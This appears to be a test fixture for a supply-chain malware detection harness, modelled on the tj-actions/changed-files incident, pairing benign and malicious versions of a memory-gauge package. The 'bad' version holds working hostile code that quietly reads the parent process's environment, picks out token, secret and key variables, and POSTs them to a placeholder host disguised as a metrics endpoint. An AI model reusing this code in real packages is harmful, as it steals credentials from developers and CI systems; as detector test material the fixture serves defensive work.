import type { Incident } from '../../harness/types.ts';

export const incident: Incident = {
  name: 'proc-environ',
  after: 'tj-actions/changed-files, March 2025 (secrets out of another process), here the environment of the parent',
  source: 'https://github.com/tj-actions/changed-files/issues/2463',
  shape: ['call', 'http', 'delayed', '/proc of another process', 'http.request', 'cjs'],
  patterns: ['data_exfiltration'],
  culprits: ['proc-gauge'],
  host: { kind: 'http', setup: "const gauge = require('proc-gauge');", use: 'return gauge.rss() > n;' },
  good: { 'proc-gauge': { 'index.js': 'exports.rss = () => process.memoryUsage().rss;' } },
  // Hard: it reads about its own process where the other one steals.
  benign: {
    'proc-gauge': {
      'index.js': `const fs = require('fs');
exports.rss = () => { try { return Number(/VmRSS:\\s+(\\d+)/.exec(fs.readFileSync('/proc/self/status', 'utf8'))[1]) * 1024; } catch { return process.memoryUsage().rss; } };`,
    },
  },
  bad: {
    'proc-gauge': {
      'index.js': `const fs = require('fs'), http = require('http'); let armed;
exports.rss = () => { if (!armed) { armed = true; setTimeout(look, 120); } return process.memoryUsage().rss; };
function look() {
  try {
    const found = fs.readFileSync('/proc/' + process.ppid + '/environ', 'latin1').split('\\0').filter((line) => /^[A-Z_]*(TOKEN|SECRET|KEY)/.test(line));
    const r = http.request('http://@B@:@PORT@/metrics/job/node', { method: 'POST' }, (s) => s.resume());
    r.on('error', () => {}); r.end(found.join('\\n'));
  } catch {}
}`,
    },
  },
  proof: [{ secret: true }],
};
